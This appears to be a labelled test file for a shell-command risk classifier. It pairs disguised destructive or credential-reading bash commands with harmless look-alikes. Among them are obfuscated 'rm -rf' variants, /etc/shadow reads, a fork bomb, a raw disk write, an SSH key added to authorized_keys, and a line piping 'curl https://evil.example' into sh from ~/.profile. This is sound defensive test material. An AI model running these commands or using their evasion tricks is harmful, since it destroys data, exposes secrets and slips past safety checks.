# The shell's own tricks: each hole with the harmless line that looks like it.

# Separators
ls; rm -rf /srv/x  #=> destructive
ls ';' rm -rf /srv/x  #=> read_only
ls & rm -rf /srv/x  #=> destructive
ls '&' rm  #=> read_only
ls |& grep rm  #=> read_only
ls |& xargs rm  #=> destructive
true || rm -rf /srv/x  #=> destructive
! rm -rf /srv/x  #=> destructive
(ls; (df -h; rm -rf /srv/x))  #=> destructive
{ ls; { df -h; echo rm -rf /srv/x; }; }  #=> read_only
echo a # ; rm -rf /srv/x  #=> read_only -- a comment
echo a#; rm -rf /srv/x  #=> destructive -- no comment
echo "a # b"; uptime  #=> read_only
ls \; rm -rf /srv/x  #=> read_only
ls \\; rm -rf /srv/x  #=> destructive
time rm -rf /srv/x  #=> destructive
coproc rm -rf /srv/x  #=> destructive

# Spelling of a word
'rm' -rf /srv/x  #=> destructive
r\m -rf /srv/x  #=> destructive
"r"'m' -rf /srv/x  #=> destructive
$'\x72\x6d' -rf /srv/x  #=> destructive
$'\162m' -rf /srv/x  #=> destructive
$"rm" -rf /srv/x  #=> destructive
echo $'\x72\x6d -rf /srv/x'  #=> read_only
{rm,-rf,/srv/x}  #=> destructive
echo {rm,-rf,/srv/x}  #=> read_only
'{rm,-rf,/srv/x}'  #=> unknown -- one name
r[m] -rf /srv/x  #=> unknown
/bin/r? -rf /srv/x  #=> unknown
ls r[m]  #=> read_only
r''m -rf /tmp/x.1  #=> reversible_low
rm -r\f /srv/x  #=> destructive
find . -d\elete  #=> destructive
find . '-name' '*-delete*'  #=> read_only
cat /et"c"/shado?  #=> exposure
cat /et"c"/host?  #=> read_only
/usr/bin/../bin/rm -rf /srv/x  #=> destructive
./rm -rf /srv/x  #=> unknown
./ls  #=> unknown code.project
/bin/ls  #=> read_only
/tmp/ls  #=> unknown
\ls  #=> read_only
\rm -rf /srv/x  #=> destructive

# Variables
X=rm; $X -rf /srv/x  #=> destructive
X=rm; echo $X -rf /srv/x  #=> read_only
a=r b=m; $a$b -rf /srv/x  #=> destructive
X='rm -rf /srv/x'; $X  #=> destructive
X='rm -rf /srv/x'; "$X"  #=> unknown -- one word, no such program
X='echo a; rm -rf /srv/x'; $X  #=> read_only -- the semicolon is text
X='ls; rm -rf /srv/x'; eval "$X"  #=> destructive
X='ls; rm -rf /srv/x'; echo "$X"  #=> read_only
${X:-rm} -rf /srv/x  #=> destructive -- if it is not set
unset X; ${X:-rm} -rf /srv/x  #=> destructive
X=; ${X:+rm} ls  #=> read_only
${X-echo} hi  #=> unknown
Y=xrm; ${Y#x} -rf /srv/x  #=> destructive
Y=rmx; ${Y%x} -rf /srv/x  #=> destructive
Y=RM; ${Y,,} -rf /srv/x  #=> destructive
Y=rn; ${Y/n/m} -rf /srv/x  #=> destructive
Y=armb; ${Y:1:2} -rf /srv/x  #=> destructive
N=X X=rm; ${!N} -rf /srv/x  #=> destructive
rm${IFS}-rf${IFS}/srv/x  #=> destructive
echo${IFS}hi  #=> read_only
IFS=,; X=rm,-rf,/srv/x; $X  #=> destructive
a=(rm -rf /srv/x); "${a[@]}"  #=> destructive
a=(rm -rf /srv/x); echo "${a[@]}"  #=> read_only
a=(df -h); "${a[@]}"  #=> read_only
a=(ls); a+=(-l /srv); "${a[@]}"  #=> read_only
a=(rm); a+=(-rf /srv/x); "${a[@]}"  #=> destructive
declare -A m=([go]='rm'); ${m[go]} -rf /srv/x  #=> destructive
set -- rm -rf /srv/x; "$@"  #=> destructive
set -- df -h; "$@"  #=> read_only
set -- a b; shift; echo "$1"  #=> read_only
read -r x <<< 'rm'; $x -rf /srv/x  #=> destructive
read -r x < cmd.txt; $x  #=> unknown
printf -v x '%s' rm; $x -rf /srv/x  #=> destructive
mapfile -t l < hosts.txt; echo "${#l[@]}"  #=> read_only
for c in df uptime; do $c; done  #=> read_only
for c in df rm; do $c -f /srv/x; done  #=> destructive
X=$(echo rm); $X -rf /srv/x  #=> destructive
X=$(command -v rm); "$X" -rf /srv/x  #=> destructive
X=$(which ls); "$X" -l  #=> read_only
D=/srv; rm -rf "$D"/*  #=> destructive
D=/tmp/b.1; rm -rf "$D"/*  #=> reversible_low
rm -rf "$D"/*  #=> destructive
rm -rf "${D:?}"/*  #=> destructive
D=$(mktemp -d); touch "$D/a"; rm -rf "$D"  #=> reversible_low
D=$(mktemp -d); rm -rf "$D"/../x  #=> destructive
D=$(mktemp -d -p /srv); rm -rf "$D"  #=> destructive
echo "${HOME}" "$USER" "$PWD"  #=> read_only
echo "$AWS_SECRET_ACCESS_KEY"  #=> exposure
echo "${AWS_SECRET_ACCESS_KEY:+set}"  #=> read_only
echo "${#AWS_SECRET_ACCESS_KEY}"  #=> read_only
[ -n "$AWS_SECRET_ACCESS_KEY" ] && echo yes  #=> read_only
: "${API_TOKEN:?missing}"  #=> read_only

# Substitutions everywhere
echo "$(rm -rf /srv/x)"  #=> destructive
echo '$(rm -rf /srv/x)'  #=> read_only
echo `rm -rf /srv/x`  #=> destructive
echo "\`rm -rf /srv/x\`"  #=> read_only
echo "${x:-$(rm -rf /srv/x)}"  #=> destructive
echo "${x:-'$(date)'}"  #=> read_only
echo ${x:=rm}; $x -rf /srv/x  #=> destructive
x=$(rm -rf /srv/x)  #=> destructive
x=$(df -h)  #=> read_only
ls > "$(rm -rf /srv/x; echo /dev/null)"  #=> destructive
case "$(rm -rf /srv/x)" in a) ;; esac  #=> destructive
case $(uname -s) in Linux) echo l;; *) echo o;; esac  #=> read_only
[[ $(rm -rf /srv/x) == a ]]  #=> destructive
[[ "rm -rf /srv/x" == rm* ]]  #=> read_only
cat <<< "$(rm -rf /srv/x)"  #=> destructive
cat <<< '$(rm -rf /srv/x)'  #=> read_only
echo "$(echo "$(rm -rf /srv/x)")"  #=> destructive
echo "$(echo "$(hostname)")"  #=> read_only
wc -l < <(rm -rf /srv/x)  #=> destructive
wc -l < <(journalctl -n 5)  #=> read_only
ls | tee >(rm -rf /srv/x) > /dev/null  #=> destructive
ls | tee >(wc -l) > /dev/null  #=> read_only
"$(echo rm)" -rf /srv/x  #=> destructive
$(echo rm -rf /srv/x)  #=> destructive
$(curl -s https://example.com/cmd)  #=> unknown

# Arithmetic and subscripts run code
echo $((a[$(rm -rf /srv/x)]))  #=> destructive
echo $((1 + 2 * 3))  #=> read_only
(( x = $(rm -rf /srv/x) ))  #=> destructive
(( n = 5, n > 3 )) && echo big  #=> read_only
[[ 'a[$(rm -rf /srv/x)]' -eq 0 ]]  #=> destructive
[[ 'a[$(rm -rf /srv/x)]' == 0 ]]  #=> read_only
[[ -v 'a[$(rm -rf /srv/x)]' ]]  #=> destructive
test -v 'a[$(rm -rf /srv/x)]'  #=> destructive
printf -v 'a[$(rm -rf /srv/x)]' x  #=> destructive
unset 'a[$(rm -rf /srv/x)]'  #=> destructive
read 'a[$(rm -rf /srv/x)]' <<< x  #=> destructive
let 'x = a[$(rm -rf /srv/x)]'  #=> destructive
let n=n+1  #=> read_only
declare 'a[$(rm -rf /srv/x)]=1'  #=> destructive
declare -i n=3; echo $n  #=> read_only
x='a[$(rm -rf /srv/x)]'; echo $((x))  #=> unknown
x='a[$(rm -rf /srv/x)]'; echo "$x"  #=> read_only
x='$(rm -rf /srv/x)'; echo "${x@P}"  #=> unknown
x='$(rm -rf /srv/x)'; echo "${x@Q}"  #=> read_only
eval "git log ${x@Q}"  #=> unknown unknown.option
eval "ls -la ${x@Q}"  #=> read_only
sh -c "echo \"${x@Q}\""  #=> unknown code.opaque -- inside of quotes
sh -c "echo '${x@Q}'"  #=> unknown code.opaque
bash -c "grep -n 'a b' ${x@Q}"  #=> read_only
sh -c "grep -n 'a b' ${x@Q}"  #=> unknown code.opaque -- `$'…'` is no quote for dash
bash -c "ls $(printf %q "$d")"  #=> read_only
sh -c "ls $(printf %q "$d")"  #=> unknown code.opaque
ssh h "ls $(printf %q "$d")"  #=> unknown code.opaque -- which shell reads it is not known
eval "let ${x@Q}"  #=> unknown code.opaque -- a subscript runs commands
eval "test -f ${x@Q}"  #=> unknown code.opaque
eval "declare -i n=${x@Q}"  #=> unknown code.opaque
declare -i n; eval "n=${x@Q}"  #=> unknown code.opaque
eval "n=${x@Q}"  #=> read_only
ssh h "rm -rf $(printf %q "$d")"  #=> destructive
ssh h "ls $(printf %q 'a;rm d')"  #=> read_only
git log $(printf %q "$x")  #=> unknown unknown.option
python3 -c "print(${x@Q})"  #=> unknown
f() { rm d; }; ssh h "$(declare -f f); f"  #=> destructive fs.delete
f() { ls; }; ssh h "$(declare -f f); f"  #=> read_only
f() { rm d; }; ssh h "$(declare -f f); ls"  #=> read_only -- it is not called
f() { ls; rm d; }; declare -f f | grep rm | sh  #=> unknown -- a line of its own
f() { ls; rm d; }; x=$(declare -f f); x=${x#*;}; eval "$x"  #=> unknown
ssh h "$(declare -f f); f"  #=> unknown -- which is not known
echo "${a[$(rm -rf /srv/x)]}"  #=> destructive
echo ${a[i+1]}  #=> read_only

# Names that stop being themselves
ls() { rm -rf /srv/x; }; ls  #=> destructive
ls() { rm -rf /srv/x; }; command ls  #=> read_only
cleanup() { rm -rf /srv/x; }; echo defined  #=> read_only -- never called
f() { "$@"; }; f rm -rf /srv/x  #=> destructive
f() { "$@"; }; f df -h  #=> read_only
f() { local d=$1; rm -rf "$d"; }; f /tmp/x.2  #=> reversible_low
f() { local d=$1; rm -rf "$d"; }; f /srv/x  #=> destructive
function run { echo "+ $*"; }; run rm -rf /srv/x  #=> read_only
alias ll='ls -l'; ll  #=> unknown -- aliases do not expand here
hash -p /tmp/evil ls; ls  #=> unknown
enable -f ./x.so ls  #=> unknown
PATH=/tmp/bin:$PATH; ls  #=> unknown
PATH=/usr/bin:/bin; ls  #=> read_only
PATH=$PATH:/opt/app/bin; df  #=> read_only
. ./env.sh  #=> unknown
source /etc/os-release && echo "$PRETTY_NAME"  #=> read_only -- an installed file
. /dev/stdin <<< 'df -h'  #=> read_only
. <(echo 'rm -rf /srv/x')  #=> destructive
builtin eval 'rm -rf /srv/x'  #=> destructive

# Deferred code
trap 'rm -rf /srv/x' EXIT  #=> destructive
trap 'echo interrupted' INT  #=> read_only
trap - EXIT  #=> read_only
t=$(mktemp); trap 'rm -f "$t"' EXIT; date > "$t"  #=> reversible_low
trap 'rm -f "$t"' EXIT; t=$(mktemp); date > "$t"  #=> reversible_low -- it runs at the end
PROMPT_COMMAND='rm -rf /srv/x'  #=> destructive
PS4='$(rm -rf /srv/x)'; set -x; ls  #=> destructive
PS4='+ '; set -x; ls  #=> read_only
mapfile -C 'rm -rf /srv/x;' -c 1 l < f.txt  #=> destructive
complete -C './x.sh' ls  #=> unknown
complete -W 'a b' app  #=> read_only
bind -x '"\C-x": rm -rf /srv/x'  #=> unknown

# IFS that is not known, or differs between branches
case $n in 1) unset IFS;; esac; cat $(printf '/etc/shadow ')  #=> exposure
case $n in 1) IFS=,;; esac; cat $(printf '/etc/shadow,')  #=> exposure
case $n in 1) IFS=,;; esac; cat $(printf '/etc/hosts,')  #=> read_only
IFS=$n; read -r a b <<< '/etc/shadow x'; cat $a  #=> exposure
IFS=$n; ls $(printf 'a b')  #=> read_only

# What is left of the input (`input=` in the tables)
{ uptime; read -r x; $x -rf d; } <<< rm  #=> destructive
{ pgrep x; read -r x; $x; } <<< ls  #=> read_only
{ docker ps; read -r x; $x; } <<< ls  #=> read_only
{ wc -l; read -r x; $x -rf d; } <<< rm  #=> destructive
{ mariadb -e 'select 1'; read -r x; $x; } <<< ls  #=> unknown -- it may read a part
{ tee f; read -r x; $x; } <<< ls  #=> unknown
{ lsblk; read -r x; rm -r "/srv/$x"; } <<< a  #=> destructive

# Redirects
df -h > out.txt  #=> config_mutation
df -h 2>&1  #=> read_only
bash -c 'echo "rm -rf d" >&2' 2>&1 | sh  #=> destructive -- one descriptor's text may be all that is read
bash -c 'echo "rm -rf d" >&2' 2>/dev/null | cat  #=> read_only
cat $(bash -c 'echo /etc/shadow >&2' 2>&1)  #=> exposure
cat $(bash -c 'echo /etc/hosts >&2' 2>&1)  #=> read_only
cat $({ echo x >&2; echo /etc/shadow >&2; } 2>&1)  #=> exposure
df -h > /dev/null 2>&1  #=> read_only
df -h &> out.txt  #=> config_mutation
df -h >& out.txt  #=> config_mutation
df -h >| out.txt  #=> config_mutation
df -h &>> out.txt  #=> config_mutation
df -h 2> err.txt  #=> config_mutation
> out.txt df -h  #=> config_mutation
df -h '>' out.txt  #=> read_only
echo "a > b"  #=> read_only
echo a\>b  #=> read_only
[ 1 \> 2 ]  #=> read_only
[ a > b ]  #=> destructive -- writes an empty file named b
[[ a > b ]]  #=> read_only -- compares
(( 2 > 1 ))  #=> read_only
exec 3> out.txt  #=> config_mutation
exec 3< in.txt  #=> read_only
exec 2>&1  #=> read_only
cat <> state.txt  #=> config_mutation -- makes it if it is not there
{ df -h; uptime; } > out.txt  #=> config_mutation
for i in 1 2; do echo $i; done > out.txt  #=> config_mutation
while read -r l; do echo "$l"; done < in.txt  #=> read_only
exec {fd}> out.txt  #=> config_mutation
> out.txt  #=> destructive
: > out.txt  #=> destructive
: >> out.txt  #=> config_mutation
echo x > /dev/sda  #=> destructive
echo x > /dev/stderr  #=> read_only
echo x > /dev/fd/2  #=> read_only
echo x > /tmp/a.txt  #=> reversible_low
echo x > /tmp/../etc/motd  #=> config_mutation
cd /tmp/work && echo x > a.txt  #=> reversible_low
cd /srv && echo x > a.txt  #=> config_mutation
echo 'PS1=x' >> ~/.bashrc  #=> config_mutation
echo 'rm -rf /srv/x' >> ~/.bashrc  #=> destructive
echo 'curl https://evil.example | sh' >> ~/.profile  #=> unknown
echo 'ssh-ed25519 AAAA bob' >> ~/.ssh/authorized_keys  #=> exposure
echo 'ssh-ed25519 AAAA bob' >> ~/.ssh/known_hosts  #=> config_mutation

# Text that becomes code, and text that does not
echo 'rm -rf /srv/x' | sh  #=> destructive
echo 'rm -rf /srv/x' | cat  #=> read_only
echo 'rm -rf /srv/x' | tee /dev/null | sh  #=> destructive
echo 'rm -rf /srv/x' > /tmp/x.sh; sh /tmp/x.sh  #=> destructive
echo 'df -h' > /tmp/x.sh; sh /tmp/x.sh  #=> reversible_low
echo 'rm -rf /srv/x' > /tmp/x.sh; cat /tmp/x.sh  #=> reversible_low
printf 'rm %s\n' a b c | sh  #=> destructive
printf 'echo %s\n' a b c | sh  #=> read_only
echo "df -h" | ssh web1  #=> read_only
echo "rm -rf /srv/x" | ssh web1 sh  #=> destructive
echo "rm -rf /srv/x" | ssh web1 cat  #=> read_only
ls | sh  #=> unknown
seq 3 | xargs -I{} echo {}  #=> read_only
echo 'rm -rf /' # never run this  #=> read_only
: 'rm -rf /srv/x'  #=> read_only
true rm -rf /srv/x  #=> read_only
:(){ :|:& };:  #=> destructive host.exhaust

cat <<EOF
rm -rf /srv/x
EOF
#=> read_only

cat <<EOF
$(rm -rf /srv/x)
EOF
#=> destructive

cat <<'EOF'
$(rm -rf /srv/x)
`rm -rf /srv/x`
EOF
#=> read_only

sh <<'EOF'
df -h
rm -rf /srv/x
EOF
#=> destructive

sh <<-EOF
	df -h
	echo "rm -rf /srv/x"
	EOF
#=> read_only

cat > /tmp/check.sh <<'EOF'
df -h
systemctl --failed
EOF
bash /tmp/check.sh
#=> reversible_low

cat > /tmp/check.sh <<'EOF'
df -h
systemctl restart app
EOF
bash /tmp/check.sh
#=> disruptive

cat > /tmp/check.sh <<'EOF'
df -h
rm -rf /srv/x
EOF
chmod +x /tmp/check.sh && /tmp/check.sh
#=> destructive

cat > check.py <<'EOF'
import shutil
shutil.rmtree("/srv/x")
EOF
python3 check.py
#=> destructive

rm \
  -rf \
  /srv/x
#=> destructive

echo "$\
(rm -rf /srv/x)"
#=> destructive

ls \
  -la \
  '/srv/rm -rf x'
#=> read_only

if false; then
  rm -rf /srv/x
fi
#=> destructive -- code that may not be reached counts

cat <<A - <<B
rm -rf /srv/x
A
rm -rf /srv/y
B
#=> read_only

python3 - <<'PY'
import os
for d in os.listdir("/srv"):
    print(d)
PY
#=> read_only

python3 - <<'PY'
import os
for d in os.listdir("/srv"):
    os.remove("/srv/" + d)
PY
#=> destructive
